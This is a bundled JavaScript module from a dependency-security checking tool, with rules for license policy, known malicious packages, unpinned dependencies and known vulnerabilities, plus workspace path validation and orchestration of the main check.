  strictOptions: { scopes: ["runtime", "dev", "optional", "unknown"] },
  optionsSchema: {
    type: "object",
    properties: {
      allow: { type: "array", items: { type: "string" }, description: "SPDX licenses allowed (ids, id+, id WITH exception); not with deny" },
      deny: { type: "array", items: { type: "string" }, description: "SPDX licenses denied; not with allow" },
      exempt: { type: "array", items: { type: "string", minLength: 1 }, description: "purl globs (pkg:npm/@acme/*) or name globs not checked" },
      scopes: {
        type: "array",
        items: { enum: ["runtime", "dev", "optional", "unknown"] },
        uniqueItems: true,
        description: "scopes checked (default runtime, optional, unknown)"
      }
    }
  },
  checkOptions(options) {
    if (options.allow !== void 0 && options.deny !== void 0)
      return [{ key: "deny", message: "license-policy takes an allow list or a deny list, not both" }];
    const problems = [];
    for (const key2 of ["allow", "deny"]) {
      const wrong = (options[key2] ?? []).find((entry2) => !SINGLE_LICENSE.test(entry2));
      if (wrong !== void 0)
        problems.push({
          key: key2,
          message: `license-policy ${key2}: "${wrong}" is not one SPDX license (an id, id+, or id WITH exception; list the licenses of an AND/OR one by one)`
        });
    }
    return problems;
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const licenses = ctx.need(licensesFact);
    const { allow, deny, exempt, scopes } = ctx.options;
    const list = allow ?? deny;
    if (list === void 0) return [{ status: "pass", message: "not applicable: no license policy configured (set allow or deny)" }];
    const { spdx } = licenses;
    const badEntries = list.filter((entry2) => !spdx.isSingleLicense(entry2));
    if (badEntries.length > 0) {
      return [
        {
          status: "unknown",
          message: `the license policy's ${allow ? "allow" : "deny"} list has entries that are not SPDX licenses: ${badEntries.join(", ")} (see https://spdx.org/licenses/)`
        }
      ];
    }
    const formats = new Map(inventory.files.map((file) => [file.path, file.format]));
    const results = [];
    const noData = /* @__PURE__ */ new Map();
    inventory.packages.forEach((pkg, index) => {
      if (pkg.source === "workspace" || pkg.ecosystem === "GitHub Actions" || !scopes.includes(pkg.scope) || exempted(pkg, exempt)) return;
      const found = licenses.licenses[index];
      const license = spdx.classifyLicense(found?.license);
      const where = locationOf(pkg.location);
      const label = packageLabel(pkg);
      const from = found ? ` (from ${found.source === "github" ? "GitHub's dependency graph" : found.source === "installed" ? "installed metadata" : "the lockfile"})` : "";
      switch (license.kind) {
        case "no-assertion":
          if (found) results.push({ status: "unknown", message: `${label}: license "${license.raw}"${from} says nothing about the license`, location: where });
          else noData.set(pkg.location.path, [...noData.get(pkg.location.path) ?? [], pkg]);
          return;
        case "invalid":
          results.push({ status: "unknown", message: `${label}: license "${license.raw}"${from} is ${license.reason}`, location: where });
          return;
        case "no-license":
          if (allow)
            results.push({
              status: "fail",
              message: `${label} grants no license ("${license.raw}"${from}), which the allow list cannot accept`,
              location: where
            });
          return;
        case "valid": {
          let verdict;
          try {
            if (allow)
              verdict = spdx.satisfiesAllow(license.expression, allow) ? null : { status: "fail", message: `${label} is licensed ${license.expression}${from}, not allowed by the license policy`, location: where };
            else {
              const denied = spdx.deniedBy(license.expression, deny);
              verdict = denied.length === 0 ? null : {
                status: "fail",
                message: `${label} is licensed ${license.expression}${from}: ${denied.join(", ")} ${denied.length === 1 ? "is" : "are"} denied by the license policy`,
                location: where
              };
            }
          } catch (error) {
            verdict = {
              status: "unknown",
              message: `${label}: license ${license.expression}${from} could not be compared with the policy (${error.message})`,
              location: where
            };
          }
          if (verdict) results.push(verdict);
        }
      }
    });
    for (const [file, packages] of noData) {
      results.push({
        status: "unknown",
        message: `${packages.length} package${packages.length === 1 ? "" : "s"} in ${file} ${packages.length === 1 ? "has" : "have"} an unknown license (${whyNoLicense(formats.get(file) ?? "the file", licenses)}): ${listSome(packages.map(packageLabel))}`,
        location: locationOf(packages[0].location),
        ...!licenses.github.read && licenses.github.permission ? { permission: licenses.github.permission } : {}
      });
    }
    return results;
  }
});

// src/rules/dependencies/malicious-package.ts
var maliciousPackage = defineRule({
  meta: {
    id: "malicious-package",
    area: "dependencies",
    severity: "critical",
    title: "Known malicious package in the dependencies",
    rationale: "A package published to steal credentials or plant a backdoor runs its payload when it is installed (install scripts) or imported: on developer machines and in CI, with their secrets. No severity threshold applies.",
    remediation: "Remove the package and the dependency that pulls it in, then treat every machine and CI run that installed it as compromised: rotate the secrets it could read and review what it could publish.",
    references: [
      "SSC (dependencies: malicious packages)",
      "https://github.com/ossf/malicious-packages",
      "https://docs.github.com/en/code-security/security-advisories/working-with-global-security-advisories-from-the-github-advisory-database/about-the-github-advisory-database#malware-advisories"
    ],
    access: { token: "none", note: "offline with a local OSV snapshot (--advisories DIR); GitHub's advisory database and the OSV API need network, no token" }
  },
  needs: [inventoryFact],
  uses: [advisoriesFact, dependencyDiffFact, imageScansFact],
  defaultOptions: {},
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    return withImages(workspaceResults(ctx, inventory), imageResults(ctx.fact(imageScansFact)));
  }
});
function workspaceResults(ctx, inventory) {
  const advisories = ctx.fact(advisoriesFact);
  const unseen = nothingToCheck(inventory, advisories);
  if (unseen) return [unseen];
  if (!advisories.known) return [];
  const report = advisories.value;
  const diff = ctx.fact(dependencyDiffFact);
  const paths = new DependencyPaths(inventory);
  const results = [];
  for (const match2 of report.matches) {
    if (!match2.advisory.malicious || !judged(match2.package)) continue;
    const pkg = match2.package;
    const chain = paths.pathTo(pkg);
    const introduced = diff.known ? diff.value.introduced.has(packageKey(pkg)) : null;
    results.push({
      status: "fail",
      severity: "critical",
      message: `${packageLabel(pkg)} (${pkg.ecosystem}, ${pkg.scope}, ${describePath(pkg, chain)}) is a known malicious package: ${idsLabel(match2)}${match2.advisory.summary ? ` \u2014 ${match2.advisory.summary}` : ""}`,
      ...matchFields(match2, chain, introduced, report)
    });
  }
  results.push(...uncheckedResults(report));
  if (results.length === 0)
    results.push({
      status: "pass",
      message: `no known malicious package among ${report.checked} package${report.checked === 1 ? "" : "s"} checked against ${sourceLabel(report)}`
    });
  return results;
}
function imageResults(fact) {
  if (!fact.known)
    return [
      {
        status: "unknown",
        message: `the images named by the run were not checked for malicious packages: ${fact.reason}`,
        ...fact.permission ? { permission: fact.permission } : {}
      }
    ];
  const results = [];
  for (const scan of fact.value.images) {
    if (!scan.ok) continue;
    const malicious = scan.report.matches.filter((match2) => match2.advisory.malicious);
    for (const match2 of malicious) {
      results.push({
        status: "fail",
        severity: "critical",
        message: `image ${scan.reference}: ${imagePackageLabel(match2.package)} is a known malicious package: ${idsLabel(match2)}${match2.advisory.summary ? ` \u2014 ${match2.advisory.summary}` : ""}`,
        ...imageMatchFields(scan, match2, void 0)
      });
    }
    if (malicious.length === 0 && scan.report.unchecked.length === 0 && scan.problems.length === 0) {
      results.push({
        status: "pass",
        message: `image ${scan.reference} (${scan.platform}): no known malicious package among ${scan.packages} package${scan.packages === 1 ? "" : "s"} checked against ${sourceLabel(scan.report)}`,
        details: { image: scan.reference, imageDigest: scan.digest }
      });
    }
  }
  results.push(...imageUnknowns(fact.value.images.map((scan) => ({ scan, label: `image ${scan.reference}` }))));
  return results;
}

// src/rules/dependencies/unpinned-dependencies.ts
var PER_PACKAGE_MANIFESTS = /* @__PURE__ */ new Set(["maven-pom"]);
var MAVEN_FLOATING = /^([[(].*[\])]|LATEST|RELEASE)$/;
var COMMIT = /(^|[#@=/])[0-9a-f]{40}([0-9a-f]{24})?($|[^0-9a-f])/i;
var URL_HASH = /#(sha256|sha384|sha512|md5|sha1)=[0-9a-f]+/i;
function describeDeclared(pkg) {
  if (pkg.declared === void 0 || pkg.declared.trim() === "") return `${pkg.name} is declared without a version`;
  return `${pkg.name} is declared as "${pkg.declared}"`;
}
var unpinnedDependencies = defineRule({
  meta: {
    id: "unpinned-dependencies",
    area: "dependencies",
    severity: "medium",
    title: "Dependency not pinned to an exact version, commit or hash",
    rationale: "What a range, a branch or an unhashed URL installs is decided when the build runs: a new release, a moved branch or a replaced file (a compromised maintainer account, a typo-squat that won a resolution) reaches the build without a change in the repository. A lockfile, a commit or a hash makes the inputs reviewable and reproducible.",
    remediation: "Commit the lockfile the package manager writes (`npm install`, `uv lock`, `poetry lock`, `pip-compile --generate-hashes`\u2026); pin git dependencies to a full commit; give URL dependencies a hash.",
    references: ["SLSA Build L3 (hermetic, pinned inputs)", "OSPS-BR-05.01", "Scorecard: Pinned-Dependencies", "pip: secure installs (--require-hashes)"],
    access: { token: "none" }
  },
  needs: [inventoryFact],
  defaultOptions: { "require-hashes": false },
  strictOptions: { "require-hashes": true },
  optionsSchema: {
    type: "object",
    properties: { "require-hashes": { type: "boolean", description: "every requirement of a requirements file must carry --hash (pip hash-checking mode)" } }
  },
  evaluate(ctx) {
    const fact = ctx.need(inventoryFact);
    const byFile = /* @__PURE__ */ new Map();
    for (const pkg of fact.packages) {
      if (pkg.ecosystem === "GitHub Actions") continue;
      const list = byFile.get(pkg.location.path);
      if (list) list.push(pkg);
      else byFile.set(pkg.location.path, [pkg]);
    }
    const results = [];
    for (const file of fact.files) {
      const packages = byFile.get(file.path);
      if (!packages || packages.length === 0) continue;
      results.push(...judgeFile(file, packages, ctx.options));
    }
    return results;
  }
});
function judgeFile(file, packages, options) {
  const external = packages.filter((pkg) => pkg.source !== "workspace" && pkg.source !== "path");
  if (file.declaredOnly && !PER_PACKAGE_MANIFESTS.has(file.format)) {
    if (external.length === 0) return [];
    const first = external[0];
    return [
      {
        status: "fail",
        message: `${file.path} declares ${external.length} dependenc${external.length === 1 ? "y" : "ies"} and no lockfile pins ${external.length === 1 ? "it" : "them"}: ${listSome(external.map((pkg) => pkg.declared ? `${pkg.name} ${pkg.declared}` : pkg.name))}`,
        location: locationOf(first.location)
      }
    ];
  }
  const results = [];
  for (const pkg of external) {
    if (pkg.source === "git") {
      if (!COMMIT.test(pkg.resolved ?? pkg.declared ?? "")) {
        results.push({
          status: "fail",
          severity: "high",
          message: `${pkg.name} comes from git (${pkg.resolved ?? pkg.declared ?? "no URL recorded"}) without a commit: a branch or tag can be moved`,
          location: locationOf(pkg.location)
        });
      }
      continue;
    }
    if (pkg.source === "url") {
      if ((pkg.hashes ?? []).length === 0 && !URL_HASH.test(pkg.resolved ?? "")) {
        results.push({
          status: "fail",
          severity: "high",
          message: `${pkg.name} is downloaded from ${pkg.resolved ?? "a URL"} without a hash: the file behind the URL can be replaced`,
          location: locationOf(pkg.location)
        });
      }
      continue;
    }
    if (pkg.version === null) {
      const declared = pkg.declared ?? "";
      if (file.format === "maven-pom" && !MAVEN_FLOATING.test(declared.trim())) {
        results.push({
          status: "unknown",
          message: `${pkg.name}: the version${declared ? ` "${declared}"` : ""} is managed outside this pom.xml (a parent, a BOM or a property chaingate did not resolve); whether it is exact is not known`,
          location: locationOf(pkg.location)
        });
      } else if (declared.includes("${")) {
        results.push({
          status: "unknown",
          message: `${pkg.name}: the version "${declared}" is a property chaingate did not resolve; whether it is exact is not known`,
          location: locationOf(pkg.location)
        });
      } else {
        results.push({ status: "fail", message: `${describeDeclared(pkg)}: the version is chosen at install time`, location: locationOf(pkg.location) });
      }
    }
  }
  if (options["require-hashes"] && file.format === "requirements") {
    const unhashed = external.filter((pkg) => pkg.source === "registry" && (pkg.hashes ?? []).length === 0);
    if (unhashed.length > 0) {
      results.push({
        status: "fail",
        message: `${file.path}: ${unhashed.length} of ${external.length} requirement${external.length === 1 ? " has" : "s have"} no --hash (the policy requires hashes): ${listSome(unhashed.map(packageLabel))}`,
        location: locationOf(unhashed[0].location),
        fix: "pip-compile --generate-hashes (or uv pip compile --generate-hashes) and install with --require-hashes"
      });
    }
  }
  return results;
}

// src/rules/dependencies/vulnerable-dependencies.ts
var SHIPPED = ["runtime", "optional", "unknown"];
function gatedScopes(option2, packages) {
  if (option2) return { scopes: option2, why: "the scopes option" };
  const ships = packages.some((pkg) => judged(pkg) && SHIPPED.includes(pkg.scope));
  return ships ? { scopes: SHIPPED, why: "default: runtime, optional and unknown" } : { scopes: [...SHIPPED, "dev"], why: "default: every scope, the inventory having only dev packages" };
}
var vulnerableDependencies = defineRule({
  meta: {
    id: "vulnerable-dependencies",
    area: "dependencies",
    severity: "high",
    title: "Dependency with a known vulnerability",
    rationale: "A dependency with a published vulnerability is the easiest way into a build or a product: the advisory tells an attacker what to do. Gating precisely (severity, fix available, scope, what the pull request introduced) keeps the gate meaningful instead of noisy.",
    remediation: "Upgrade to a fixed version (given in the finding), or remove the dependency. Where the vulnerable code cannot be reached, publish a VEX statement (`not_affected` with a justification) or add a waiver with a reason and an expiry.",
    references: [
      "SSC (dependencies: known vulnerabilities)",
      "OSPS-VM-05.03",
      "SLSA (dependency tracking)",
      "https://ossf.github.io/osv-schema/",
      "dependency-review-action: fail-on-severity, fail-on-scopes"
    ],
    access: {
      token: "none",
      note: "offline with a local OSV snapshot (--advisories DIR); GitHub's advisory database and the OSV API need network, no token (a token raises GitHub's rate limit)"
    }
  },
  needs: [inventoryFact],
  uses: [advisoriesFact, dependencyDiffFact, imageScansFact],
  defaultOptions: { "fail-on": "low", "only-fixed": false, gate: "introduced" },
  strictOptions: { scopes: ["runtime", "dev", "optional", "unknown"], "max-age-days": 90 },
  optionsSchema: {
    type: "object",
    properties: {
      "fail-on": { enum: [...SEVERITY_WORDS], description: "lowest severity that fails (GitHub's words), default low" },
      "only-fixed": { type: "boolean", description: "fail only when a fixed version exists (default false)" },
      "max-age-days": { type: "integer", minimum: 0, description: "an unfixed advisory published longer ago than this fails whatever the other options say" },
      scopes: {
        type: "array",
        items: { enum: ["runtime", "dev", "optional", "unknown"] },
        uniqueItems: true,
        description: "scopes gated (default runtime, optional, unknown; every scope when there are only dev packages)"
      },
      epss: { type: "number", minimum: 0, maximum: 1, description: "fail only at or above this EPSS probability, where the source gives EPSS" },
      gate: { enum: ["introduced", "all"], description: "in a pull request: only what the change introduced (default), or every package" }
    }
  },
  evaluate(ctx) {
    const inventory = ctx.need(inventoryFact);
    const { scopes, why } = gatedScopes(ctx.options.scopes, inventory.packages);
    return withImages(workspaceResults2(ctx, inventory, scopes, why), imageResults2(ctx.fact(imageScansFact), ctx.options, scopes, why, ctx.now));
  }
});
function workspaceResults2(ctx, inventory, scopes, why) {
  const advisories = ctx.fact(advisoriesFact);
  const unseen = nothingToCheck(inventory, advisories);
  if (unseen) return [unseen];
  if (!advisories.known) return [];
  const options = ctx.options;
  const report = advisories.value;
  const paths = new DependencyPaths(inventory);
  const view = introducedView(options.gate, ctx.fact(dependencyDiffFact));
  const results = [];
  for (const match2 of report.matches) {
    if (match2.advisory.malicious || !judged(match2.package)) continue;
    const pkg = match2.package;
    const chain = paths.pathTo(pkg);
    const introduced = view.keys ? view.keys.has(packageKey(pkg)) : null;
    const fields = matchFields(match2, chain, introduced, report);
    const severity = matchSeverity(match2);
    const fixed = match2.fixedVersions.length > 0 ? `fixed in ${listSome(match2.fixedVersions, 3)}` : "no fixed version published";
    const head = `${packageLabel(pkg)} (${pkg.ecosystem}, ${pkg.scope}, ${describePath(pkg, chain)}): ${advisoryLabel(match2)}; ${fixed}`;
    const notGated = (reason) => void results.push({ status: "pass", message: `${head}; not gated: ${reason}`, severity, ...fields });
    if (!scopes.includes(pkg.scope)) {
      notGated(`${pkg.scope} scope (${why})`);
      continue;
    }
    if (view.keys && !introduced) {
      notGated("already in the base, not introduced by this change (gate: introduced)");
      continue;
    }
    const { overdue: overdue2, below } = gateOutcome(match2, options, ctx.now);
    if (below.length > 0) {
      notGated(below.join("; "));
      continue;
    }
    const message2 = `${head}${overdue2 ? `; ${overdue2}` : ""}`;
    if (view.unavailable)
      results.push({ status: "unknown", message: `${message2}; could not tell whether this change introduced it: ${view.unavailable}`, severity, ...fields });
    else results.push({ status: "fail", message: message2, severity, ...fields });
  }
  results.push(...uncheckedResults(report, (pkg) => scopes.includes(pkg.scope)));
  if (results.length === 0) {
    const checked = report.checked;
    results.push({ status: "pass", message: `no known vulnerability in ${checked} package${checked === 1 ? "" : "s"} checked against ${sourceLabel(report)}` });
  }
  return results;
}
function imageResults2(fact, options, scopes, why, now) {
  if (!fact.known)
    return [
      {
        status: "unknown",
        message: `the images named by the run were not checked for known vulnerabilities: ${fact.reason}`,
        ...fact.permission ? { permission: fact.permission } : {}
      }
    ];
  const results = [];
  for (const scan of fact.value.images) {
    if (!scan.ok) continue;
    const label = `image ${scan.reference}`;
    let reported = 0;
    for (const match2 of scan.report.matches) {
      if (match2.advisory.malicious) continue;
      reported += 1;
      const pkg = match2.package;
      const fields = imageMatchFields(scan, match2, void 0);
      const severity = matchSeverity(match2);
      const head = `${label}: ${imagePackageLabel(pkg)}: ${advisoryLabel(match2)}; ${imageFixState(match2)}`;
      if (!scopes.includes(pkg.scope)) {
        results.push({ status: "pass", message: `${head}; not gated: ${pkg.scope} scope (${why})`, severity, ...fields });
        continue;
      }
      const { overdue: overdue2, below } = gateOutcome(match2, options, now);
      if (below.length > 0) results.push({ status: "pass", message: `${head}; not gated: ${below.join("; ")}`, severity, ...fields });
      else results.push({ status: "fail", message: `${head}${overdue2 ? `; ${overdue2}` : ""}`, severity, ...fields });
    }
    if (reported === 0 && scan.report.unchecked.length === 0 && scan.problems.length === 0) {
      results.push({
        status: "pass",
        message: `${label} (${scan.platform}${scan.distro ? `, ${scan.distro}` : ""}): no known vulnerability in ${scan.packages} package${scan.packages === 1 ? "" : "s"} checked against ${sourceLabel(scan.report)}`,
        details: { image: scan.reference, imageDigest: scan.digest }
      });
    }
  }
  results.push(
    ...imageUnknowns(
      fact.value.images.map((scan) => ({ scan, label: `image ${scan.reference}` })),
      (pkg) => scopes.includes(pkg.scope)
    )
  );
  return results;
}

// src/rules/dependencies/index.ts
var dependenciesRules = [
  dependencyInventory,
  unpinnedDependencies,
  dependencyConfusionRisk,
  licensePolicy,
  vulnerableDependencies,
  maliciousPackage
];

// src/rules/code/expired-waiver.ts
var expiredWaiver = defineRule({
  meta: {
    id: EXPIRED_WAIVER_RULE_ID,
    area: "code",
    severity: "medium",
    title: "Expired waiver",
    rationale: "A waiver is a time-boxed exception; once it expires, the finding it hid counts again and the waiver should be renewed or removed.",
    remediation: "Fix the finding the waiver covered, or extend the waiver with a new reason and date.",
    references: ["OSPS-GV-01"],
    access: { token: "none" }
  },
  needs: [],
  defaultOptions: {},
  // The engine emits one finding per expired waiver; as a rule it has nothing to evaluate.
  evaluate: () => [{ status: "pass", message: "no expired waivers" }]
});

// src/rules/index.ts
var allRules = [...accountsRules, ...codeRules, ...buildRules, ...artifactsRules, ...dependenciesRules, expiredWaiver];

// src/runtime/sync-stdio.ts
import { EventEmitter } from "node:events";
var fs7 = process.getBuiltinModule("node:fs");
var pause = new Int32Array(new SharedArrayBuffer(4));
function writeAll(fd, bytes) {
  let offset = 0;
  while (offset < bytes.length) {
    try {
      offset += fs7.writeSync(fd, bytes, offset, bytes.length - offset);
    } catch (error) {
      if (error.code !== "EAGAIN") throw error;
      Atomics.wait(pause, 0, 0, 1);
    }
  }
}
var SyncFdWriter = class extends EventEmitter {
  fd;
  isTTY = false;
  destroyed = false;
  writable = true;
  // No parameter properties here: the tests run this file with Node's type stripping.
  constructor(fd) {
    super();
    this.fd = fd;
  }
  write(chunk, encoding, callback) {
    const done = typeof encoding === "function" ? encoding : callback;
    if (this.destroyed) {
      if (done) process.nextTick(done, Object.assign(new Error("write after the stream was destroyed"), { code: "ERR_STREAM_DESTROYED" }));
      return false;
    }
    try {
      writeAll(this.fd, typeof chunk === "string" ? Buffer.from(chunk, typeof encoding === "string" ? encoding : "utf8") : chunk);
    } catch (error) {
      this.destroyed = true;
      this.writable = false;
      if (done) process.nextTick(done, error);
      process.nextTick(() => this.emit("error", error));
      return false;
    }
    if (done) process.nextTick(done, null);
    return true;
  }
  end(chunk, callback) {
    if (typeof chunk === "function") callback = chunk;
    else if (chunk !== void 0) this.write(chunk);
    if (callback) process.nextTick(callback);
    return this;
  }
};
function plainOutput(fd) {
  try {
    const stat = fs7.fstatSync(fd);
    return stat.isFIFO() || stat.isSocket() || stat.isFile();
  } catch {
    return false;
  }
}
function useSynchronousStdio() {
  for (const [name, fd] of [
    ["stdout", 1],
    ["stderr", 2]
  ]) {
    const descriptor = Object.getOwnPropertyDescriptor(process, name);
    if (!descriptor?.get || !descriptor.configurable || !plainOutput(fd)) continue;
    const writer = new SyncFdWriter(fd);
    Object.defineProperty(process, name, { configurable: true, enumerable: descriptor.enumerable, get: () => writer });
  }
}

// fs-without-es-facade:src/workspace/real-path.ts
var fs8 = process.getBuiltinModule("node:fs");
var real_path_default = fs8;

// src/workspace/real-path.ts
import path12 from "node:path";
function realPathInside(root, absolute, options) {
  const realRoot = realOrSelf(root);
  const lexicallyInside = isInside(root, absolute) || isInside(realRoot, absolute);
  if (!lexicallyInside && !options.allowOutside) throw new ConfigurationError(`${options.name} points outside the workspace`);
  const real = realPathForWrite(absolute, options.name);
  if (lexicallyInside && !isInside(realRoot, real)) throw new ConfigurationError(`${options.name} leads outside the workspace through a symbolic link`);
  return real;
}
function realOrSelf(file) {
  try {
    return real_path_default.realpathSync.native(file);
  } catch {
    return path12.resolve(file);
  }
}
function realPathForWrite(absolute, name) {
  const missing = [];
  for (let current = path12.resolve(absolute); ; current = path12.dirname(current)) {
    let stat;
    try {
      stat = real_path_default.lstatSync(current);
    } catch {
      stat = void 0;
    }
    if (stat) {
      let real;
      try {
        real = real_path_default.realpathSync.native(current);
      } catch {
        throw new ConfigurationError(`${name} goes through a symbolic link that points nowhere (${current})`);
      }
      return path12.join(real, ...missing.reverse());
    }
    if (path12.dirname(current) === current) return path12.resolve(absolute);
    missing.push(path12.basename(current));
  }
}

// fs-without-es-facade:src/check.ts
var fs9 = process.getBuiltinModule("node:fs");
var check_default = fs9;

// src/check.ts
import path13 from "node:path";
function apiLimitsFromEnv(env) {
  const number = (name, min) => {
    const text = env[name];
    if (text === void 0 || text.trim() === "") return void 0;
    const value = Number(text);
    if (!Number.isFinite(value) || value < min) throw new ConfigurationError(`${name} must be a number of at least ${min}, got ${JSON.stringify(text)}`);
    return value;
  };
  const timeout = number("CHAINGATE_API_TIMEOUT", 0.1);
  const budget = number("CHAINGATE_API_BUDGET", 0.1);
  const retries = number("CHAINGATE_API_RETRIES", 0);
  return {
    ...timeout !== void 0 ? { requestTimeoutMs: Math.round(timeout * 1e3) } : {},
    ...budget !== void 0 ? { budgetMs: Math.round(budget * 1e3) } : {},
    ...retries !== void 0 ? { retries: Math.floor(retries) } : {}
  };
}
var DEFAULT_API_URL = "https://api.github.com";
async function check2(input2) {
  const rules = input2.rules ?? allRules;
  const workspace = new Workspace(input2.path);
  const location = findPolicy(workspace.root, input2.policyPath);
  if (location.absolutePath) await loadGlobLibrary();
  const policy = location.absolutePath ? (await import("./load-ALNZ6RYN.js")).loadPolicy(location, rules) : embeddedPolicy(rules);
  if (input2.failOn) policy.failOn = input2.failOn;
  if (input2.onUnknown) policy.onUnknown = input2.onUnknown;
  const target2 = input2.repository ? { ...parseRepository(input2.repository), ...input2.ref ? { ref: input2.ref } : {}, ...input2.sha ? { sha: input2.sha } : {} } : null;
  const counter = new RequestCounter();
  const apiUrl = input2.apiUrl ?? DEFAULT_API_URL;
  if (input2.apiUrl !== void 0) validateApiUrl(input2.apiUrl);
  const clientOptions = {
    apiUrl,
    counter,
    userAgent: `${TOOL.name}/${TOOL.version}`,
    ...input2.log ? { log: input2.log } : {},
    ...input2.retryBaseMs !== void 0 ? { retryBaseMs: input2.retryBaseMs } : {},
    ...input2.api
  };
  const client = async (token) => {
    if (!token) return null;
    const { createGitHubClient } = await import("./client-WRR4B572.js");
    return createGitHubClient({ ...clientOptions, token });
  };
  const sbomFiles = (input2.sbomPaths ?? []).map((file) => resolveSbomFile(workspace, file, input2.sbomOutsideWorkspace ?? false));
  if (input2.sbomOnly && sbomFiles.length === 0) throw new ConfigurationError("--sbom-only needs --sbom FILE");
  const github = await client(input2.token);
  const elevated = await client(input2.elevatedToken);
  if (github || elevated) await loadGlobLibrary();
  const source = resolveAdvisorySource(input2, policy, workspace);
  const anonymousGithub = source?.kind === "github" && !github ? (await import("./client-WRR4B572.js")).createGitHubClient({ ...clientOptions, token: "" }) : null;
  const osvCacheDir = input2.osvCacheDir && !isInside(workspace.root, path13.resolve(input2.osvCacheDir)) ? path13.resolve(input2.osvCacheDir) : void 0;
  const advisories = {
    source,
    ...anonymousGithub ? { anonymousGithub } : {},
    ...osvCacheDir ? { osvCacheDir } : {},
    ...input2.advisoriesHttp ? { http: input2.advisoriesHttp } : {}
  };
  const report = await runCheck({
    workspace,
    policy,
    rules,
    github,
    elevated,
    target: target2,
    event: input2.event ?? null,
    ...input2.now ? { now: input2.now } : {},
    tool: TOOL,
    displayPath: input2.displayPath ?? input2.path,
    advisories,
    ...input2.images?.length ? { images: { pushed: input2.images, ...input2.imagePlatform ? { platform: input2.imagePlatform } : {} } } : {},
    registries: lazyRegistries(input2),
    ...sbomFiles.length > 0 ? { sbom: { files: sbomFiles, only: input2.sbomOnly ?? false } } : {}
  });
  return { report, policy, rules, workspace };
}
function resolveSbomFile(workspace, given, allowOutside) {
  const absolute = path13.resolve(workspace.root, given);
  const shown = isInside(workspace.root, absolute) ? workspace.relative(absolute) : given;
  let real;
  try {
    real = check_default.realpathSync.native(absolute);
  } catch {
    throw new ConfigurationError("SBOM file not found", { file: shown });
  }
  if (!check_default.statSync(real).isFile()) throw new ConfigurationError("SBOM is not a regular file", { file: shown });
  const inside = isInside(workspace.root, real);
  if (!inside && !allowOutside) throw new ConfigurationError("SBOM file is outside the workspace", { file: shown });
  return { absolutePath: real, displayPath: inside ? workspace.relative(real) : real, insideWorkspace: inside };
}
function resolveAdvisorySource(input2, policy, workspace) {
  const fromPolicy = policy.advisories;
  const where = fromPolicy?.location ? { file: policy.source, line: fromPolicy.location.startLine, column: fromPolicy.location.startColumn } : void 0;
  const url = input2.osvUrl ?? fromPolicy?.osvUrl;
  if (url !== void 0) validateHttpUrl(url, "OSV API URL", input2.osvUrl === void 0 ? where : void 0);
  const given = input2.advisories ?? fromPolicy?.source ?? (url !== void 0 ? "osv" : void 0);
  if (given === void 0) return null;
  if (given === "github") return { kind: "github" };
  if (given === "osv") return { kind: "osv", url: url ?? DEFAULT_OSV_URL };
  const directory = input2.advisories !== void 0 ? path13.resolve(given) : path13.resolve(workspace.root, given);
  const isDirectory = check_default.statSync(directory, { throwIfNoEntry: false })?.isDirectory() ?? false;
  if (!isDirectory) {
    const message2 = `advisory source ${JSON.stringify(given)} is neither github, osv nor a directory (a local OSV snapshot laid out as DIR/<Ecosystem>/all.zip)`;
    throw input2.advisories === void 0 && where ? new ConfigurationError(message2, where) : new ConfigurationError(message2);
  }
  return { kind: "osv-offline", directory };
}
function validateHttpUrl(url, what2, where) {
  let parsed;
  try {
    parsed = new URL(url);
  } catch {
    parsed = void 0;
  }
  if (!parsed || parsed.protocol !== "https:" && parsed.protocol !== "http:") {
    const message2 = `${what2} must be an http(s) URL, got ${JSON.stringify(url)}`;
    throw where ? new ConfigurationError(message2, where) : new ConfigurationError(message2);
  }
}
function validateApiUrl(url) {
  let parsed;
  try {
    parsed = new URL(url);
  } catch {
    throw new ConfigurationError(`GitHub API URL ${JSON.stringify(url)} is not a URL`);
  }
  if (parsed.protocol !== "https:" && parsed.protocol !== "http:") throw new ConfigurationError(`GitHub API URL must be http(s), got ${parsed.protocol}`);
}
function lazyRegistries(input2) {
  let pool2;
  let opening;
  const client = () => import("./registry-DUE3F5CC.js");
  return {
    offline: input2.offline ?? false,
    // One pool for the run, however many facts ask for it at once (tokens and counts are per pool).
    pool() {
      opening ??= client().then((module) => pool2 = new module.RegistryPool());
      return opening;
    },
    requests: () => pool2?.requests ?? 0,
    async credentials(name) {
      return input2.registryCredentials ?? (await client()).readDockerCredentials(name, input2.dockerConfigDir);
    }
  };
}

export {
  ApiFault,
  classifyApiError,
  listAll,
  securityVulnerabilitiesQuery,
  graphql,
  FAILSAFE_SCHEMA,
  loadAll,
  load,
  Scalar,
  Pair,
  YAMLMap,
  YAMLSeq,
  Alias,
  isScalar,
  isMap,
  isSeq,
  isNode,
  expandedSize,
  toJS,
  allScalars,
  MAX_ALIAS_NODES,
  parseYaml,
  errorPosition,
  locate,
  MAX_WORKFLOW_BYTES,
  usesValues,
  globLibrary,
  loadGlobLibrary,
  withGlobLibrary,
  capYoungGeneration,
  emptyOutcome,
  MAX_LOCKFILE_BYTES,
  packageKey,
  escapeRegExp,
  readersFor,
  Workspace,
  isInside,
  formatBytes,
  SEVERITY_WORDS,
  SEVERITIES,
  AREAS,
  CONFIDENCES,
  severityRank,
  globProblem,
  globMatcher,
  applyWaivers,
  compareFindings,
  isFailing,
  readEventPayload,
  DEFAULT_POLICY_PATHS,
  findPolicy,
  RequestCounter,
  variantOf,
  nodeAtPath,
  deref,
  asMap,
  asSeq,
  entries,
  entry,
  scalarText,
  manifestImageContext,
  manifestImages,
  manifestDocuments,
  unquotedRange,
  resourceImages,
  startsWithRegistry,
  parseImageRef,
  manifestImageSource,
  COMPOSE_FILES,
  COMPOSE_OVERRIDES,
  isComposeName,
  KUSTOMIZATION_NAMES,
  isKustomizationName,
  workspacePath,
  OFFLINE_IMAGE_REASON,
  parseRepository,
  defineRule,
  inBaseline,
  embeddedPolicy,
  resolvePolicy,
  PRESETS,
  FAIL_ON,
  toJson,
  jsonChunks,
  MAX_SARIF_RESULTS,
  sarifResultCount,
  sarifCapNotice,
  writeInBatches,
  withLineBreaks,
  WRITE_FLAGS,
  writeReportFile,
  toText,
  textLines,
  findingLines,
  idsLabel,
  gateOutcome,
  matchSeverity,
  imageFixState,
  allRules,
  useSynchronousStdio,
  realPathInside,
  DEFAULT_OSV_URL,
  createSource,
  apiLimitsFromEnv,
  DEFAULT_API_URL,
  check2 as check,
  resolveAdvisorySource
};
